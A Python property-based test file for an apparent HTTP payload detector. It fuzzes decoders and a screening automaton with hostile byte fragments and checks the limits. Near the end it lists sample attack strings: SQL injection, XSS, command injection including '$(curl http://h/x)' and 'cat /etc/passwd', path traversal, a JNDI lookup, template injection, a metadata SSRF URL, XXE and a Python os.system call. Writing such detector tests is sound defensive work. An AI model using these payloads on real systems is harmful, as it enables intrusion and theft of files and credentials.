"""What holds for any bytes: decoders keep their limits, the screen equals a plain search, nothing
crashes.
"""

from urllib.parse import quote

import numpy as np
from hypothesis import example, given, settings
from hypothesis import strategies as st
from tests.unit.detectors.payload.requests import batch_of

from apisentinel.detectors.payload import FIRM, PayloadDetector, data, screen
from apisentinel.detectors.payload.canonical import lookups, path, shell, sql, text
from apisentinel.detectors.payload.decode import decode, inside_base64
from apisentinel.detectors.payload.fields import Value, body_values
from apisentinel.detectors.payload.headers import header_values
from apisentinel.detectors.payload.judge import judge_value
from apisentinel.detectors.payload.limits import (
    MAX_FINDINGS,
    MAX_GROWTH,
    MAX_LAYERS,
    MAX_TOKENS,
    MAX_VALUES,
)
from apisentinel.detectors.payload.sql_tokens import shape
from apisentinel.kernels.automaton import marks_of

PIECES = st.sampled_from(
    (
        b"% %2 %25 %u0 %u003c %c0%ae \\x \\x3c \\u00 \\74 &# &#x &#60; &lt; +ADw- ' \" ` /* */ -- #"
        b" ${ } :- {{ }} [ ] { < > = ( ) ; | & $( or and union select 1 a sleep( script onerror= .."
        b" / \\ \x00 \r\n \xc0 \xef\xbc\x9c \xff base64, PHNjcmlwdD4 ?"
    ).split()
)
HOSTILE = st.lists(st.one_of(PIECES, st.binary(max_size=3)), max_size=40).map(b"".join)
DETECTOR = PayloadDetector()


@given(HOSTILE)
@example("\ufdfa".encode() * 50)
@example(b"%25" * 200 + b"3c")
def test_decoders_keep_their_limits(value):
    decoded = decode(value)
    assert len(decoded.text) <= len(value) * MAX_GROWTH
    assert decoded.layers == len(decoded.stages) <= MAX_LAYERS
    if decoded.layers < MAX_LAYERS:
        assert decode(decoded.text).text == decoded.text


@given(HOSTILE)
@example(b"}${x")
@example(b"}" + b"${" * 40 + b"}" * 80)
def test_readings_take_any_bytes(value):
    plain = text(value)
    assert b"  " not in plain
    for reading in (sql, shell, path, lookups):
        assert len(reading(plain)) <= len(plain) + 3
    for quote_sign in (b"", b"'", b'"', b"`"):
        assert len(shape(plain, quote_sign)) <= MAX_TOKENS
    inside_base64(value)


@given(HOSTILE)
def test_judging_takes_any_bytes(value):
    for whole in (False, True):
        findings, inner = judge_value(Value("query q", value, plus=True, whole=whole))
        assert all(finding.raw_llr > 0 for finding in findings)
        assert len(inner) <= MAX_VALUES + 2


@given(HOSTILE)
def test_splitting_takes_any_bytes(value):
    for kind in (b"", b"json"):
        assert len(list(body_values(value, kind))) <= 3 * MAX_VALUES
        assert len(list(body_values(b"{" + value, kind))) <= 3 * MAX_VALUES
        assert len(list(body_values(b"<" + value, kind))) <= 3 * MAX_VALUES
        assert len(list(body_values(b"--x\r\nContent-" + value, kind))) <= 3 * MAX_VALUES
    for name in (b"cookie", b"referer", b"x"):
        list(header_values(name, value))


COLUMNS = ("method", "path", "query", "user_agent", "referer", "headers", "request_body")


@given(st.lists(st.fixed_dictionaries({}, optional=dict.fromkeys(COLUMNS, HOSTILE)), max_size=4))
@settings(max_examples=50)
def test_rows_of_any_bytes_have_findings_of_their_own(rows):
    batch = batch_of(*rows)
    chosen = DETECTOR.screen(batch)
    assert chosen.dtype == np.int32
    found = DETECTOR.inspect(batch, chosen)
    assert all(len(findings) <= MAX_FINDINGS for findings in found)
    for row, findings in zip(chosen, found, strict=True):
        alone = batch_of(rows[row])
        assert PayloadDetector().inspect(alone, np.zeros(1, np.int32)) == [findings]


@given(
    st.one_of(
        HOSTILE,
        st.sampled_from([w for g in data.load("screen")["group"] for w in g["words"]]).map(
            str.encode
        ),
    )
)
@settings(max_examples=200)
def test_the_screen_equals_a_plain_search_on_text_without_encodings(value):
    value = value.translate(None, b"%\\#" + b"ABCDEFGHIJKLMNOPQRSTUVWXYZ")[:40]
    tables = screen.tables()
    found = marks_of(tables.automaton, value + b" ")
    kinds = 0
    for byte in value:
        kinds |= int(tables.kinds[0, byte])
    for at in range(len(screen.COLUMNS)):
        plain = found & int(tables.alone[at]) or kinds & int(tables.kinds_alone[at])
        pairs = any(
            int(p[0]) >> at & 1 and found & int(p[1]) and kinds & int(p[2]) for p in tables.pairs
        )
        marked = screen.flag_texts([value], 1 << at)[0] if value else False
        # base64 inside the text may add words, never take any away
        assert marked or not (value and (plain or pairs))
        if not any(len(run) >= 12 for run in value.translate(BASE64_RUNS).split()):
            assert marked == bool(value and (plain or pairs))


BASE64_RUNS = bytes(
    b if (b < 128 and chr(b).isalnum()) or b in b"+/-_" else 0x20 for b in range(256)
)

FIRM_VALUES = st.sampled_from(
    [
        "1' or '1'='1",
        "x' union select 1,version()-- -",
        "1;waitfor delay '0:0:5'--",
        "<script>alert(1)</script>",
        '"><svg/onload=alert`1`>',
        "javascript:alert(document.cookie)",
        "a;cat /etc/passwd",
        "$(curl http://h/x)",
        "../../../../etc/passwd",
        "${jndi:ldap://h/a}",
        "{{''.__class__.__mro__}}",
        "http://169.254.169.254/latest/meta-data/",
        "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>",
        "__import__('os').system('id')",
        'O:8:"stdClass":1:{s:1:"a";i:1;}',
    ]
)


@given(
    value=FIRM_VALUES,
    before=st.text("abc 123", max_size=6),
    layers=st.integers(1, 3),
    field=st.sampled_from([screen.QUERY, screen.PATH, screen.REFERER, screen.BODY]),
)
def test_what_is_firm_passes_the_screen(value, before, layers, field):
    sent = before + value
    for _ in range(layers):
        sent = quote(sent, safe="")
    findings, _ = judge_value(Value("query q", sent.encode()))
    firm = any(finding.raw_llr >= FIRM for finding in findings)
    assert screen.flag_texts([sent.encode()], field)[0] or not firm
